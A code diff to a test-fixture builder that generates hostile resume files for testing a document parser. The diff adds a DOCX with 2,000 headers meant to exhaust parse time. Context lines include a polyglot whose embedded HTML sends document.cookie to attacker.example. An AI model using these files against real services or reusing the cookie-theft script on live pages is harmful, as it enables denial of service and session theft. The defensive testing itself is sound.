@@ -41,7 +41,7 @@ export interface FitPair { brief: { role: string; job_description: string }; str
 
 export type HostileName =
   | 'zipBombDocx' | 'tenThousandPagesPdf' | 'endlessPdf' | 'truncatedPdf' | 'encryptedPdf' | 'scannedPdf' | 'polyglot'
-  | 'emptyPdf' | 'tooLittleText' | 'binaryJunk' | 'hiddenTextPdf';
+  | 'emptyPdf' | 'tooLittleText' | 'binaryJunk' | 'hiddenTextPdf' | 'manyHeadersDocx';
 
 // ---------------------------------------------------------------------------------------------------------------------
 // Seeded randomness
@@ -2160,9 +2160,16 @@ async function buildHostile(): Promise<Record<HostileName, Buffer>> {
     zipEntry('word/document.xml', `${DOC_HEAD}${docPara('Jordan Example')}${docPara('Skills: Python, SQL')}${DOC_TAIL}`),
     zipEntry('index.html', '<!doctype html><html><body><script>fetch("https://attacker.example/steal?c=" + document.cookie)</script></body></html>'),
   ], pdfPart.length)]);
+  // A DOCX of 2,000 page headers: reading them all (each up to 1 MiB inflated) held the only parse worker 15 s.
+  const header = `<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">${docPara('Jordan Example · jordan@example.com')}</w:hdr>`;
+  const manyHeadersDocx = zipFiles([
+    zipEntry('[Content_Types].xml', CONTENT_TYPES), zipEntry('_rels/.rels', ROOT_RELS),
+    zipEntry('word/document.xml', `${DOC_HEAD}${docPara('Jordan Example')}${docPara('Experience')}${docPara('Data Analyst, Acme Foods  2019 - Present')}${docPara('Built SQL reports in Tableau for 40 store managers and cut reporting time by half, then trained the team to run them.')}${DOC_TAIL}`),
+    ...Array.from({ length: 2000 }, (_, i) => zipEntry(`word/header${i + 1}.xml`, header)),
+  ]);
   return {
     zipBombDocx: zipBomb(), tenThousandPagesPdf, endlessPdf: endlessPdf(), truncatedPdf, encryptedPdf, scannedPdf, polyglot,
-    emptyPdf, tooLittleText, binaryJunk: junk, hiddenTextPdf,
+    emptyPdf, tooLittleText, binaryJunk: junk, hiddenTextPdf, manyHeadersDocx,
   };
 }
 
